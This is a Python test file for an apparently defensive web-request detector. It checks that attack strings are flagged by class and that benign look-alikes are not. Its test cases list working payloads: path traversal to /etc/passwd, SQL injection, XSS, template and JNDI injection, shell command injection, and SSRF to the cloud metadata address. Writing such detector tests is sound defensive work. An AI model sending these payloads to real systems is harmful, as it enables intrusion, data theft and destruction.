"""Attack text is flagged by its class; the look-alikes of daily life are not."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flowaudit.event import FLAGS
from flowaudit.policy.signs import attack_flags


@pytest.mark.parametrize(
    ("path", "query", "flags"),
    [
        ("/download", "f=..%2f..%2fetc%2fpasswd", {"os-file", "traversal"}),
        ("/a/../../etc/passwd", "", {"os-file", "traversal"}),
        ("/a/..;/manager/html", "", {"traversal"}),
        ("/x", "f=%252e%252e%252fetc%252fpasswd", {"double-encoded", "os-file", "traversal"}),
        ("/x%00.png", "", {"null-byte"}),
        ("/x", "u=%0d%0aSet-Cookie:%20a=b", {"crlf"}),
        ("/x", "id=1%20union%20select%20a,b%20from%20users", {"sqli"}),
        ("/x", "id=1'%20or%20'1'='1", {"sqli"}),
        ("/x", "id=1%20or%201=1", {"sqli"}),
        ("/x", "id=1;drop%20table%20users", {"sqli"}),
        ("/x", "id=sleep(5)", {"sqli"}),
        ("/x", "q=%3Cscript%3Ealert(1)", {"xss"}),
        ("/x", "q=%3Cimg%20src=x%20onerror=alert(1)%3E", {"xss"}),
        ("/x", "q={{7*7}}", {"template"}),
        ("/x", "q=${7*7}", {"template"}),
        ("/x", "q=${jndi:ldap://example.org/a}", {"lookup"}),
        ("/x", "h=1;id", {"command"}),
        ("/x", "h=|cat%20/etc/passwd", {"command", "os-file"}),
        ("/x", "h=$(whoami)", {"command"}),
        ("/x", "f=php://filter/x", {"php-wrapper"}),
        ("/x", "u=http://169.254.169.254/latest", {"ssrf"}),
        ("/x", "u=file:///etc/passwd", {"os-file", "ssrf"}),
    ],
)
def test_classes(path: str, query: str, flags: set[str]) -> None:
    found = set(attack_flags(path, query))
    assert flags <= found
    assert found <= FLAGS


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/search", "q=select%20a%20menu%20from%20the%20union%20cafe"),
        ("/search", "q=student%20union%20select%20committee"),
        ("/people", "name=O'Brien"),
        ("/x", "b=ab+c/d=="),
        ("/x", "q={{name}}"),
        ("/x", "url=https://example.org/a"),
        ("/docs/php", "page=2"),
        ("/a.b..c/d", ""),
        ("/x", "range=1..5"),
        ("/x", "q=fish+%26+chips"),
        ("/x", "q=id;lang=en"),
        ("/.well-known/change-password", ""),
        ("/x", "price=%3C100"),
    ],
)
def test_look_alikes_are_not_flagged(path: str, query: str) -> None:
    assert attack_flags(path, query) == ()


@given(st.text(max_size=200), st.text(max_size=200))
def test_any_text_is_looked_at(path: str, query: str) -> None:
    assert set(attack_flags(path, query)) <= FLAGS


@pytest.mark.parametrize(
    "hostile",
    [
        "union" + "/**/" * 4_000 + "x",
        "'" * 16_000,
        "${" * 8_000,
        "<img " * 3_000,
        "{{" * 8_000,
        "%25" * 5_000,
    ],
)
def test_hostile_text_costs_little(hostile: str) -> None:
    start = time.process_time()
    attack_flags("/x", hostile)
    assert time.process_time() - start < 1.0
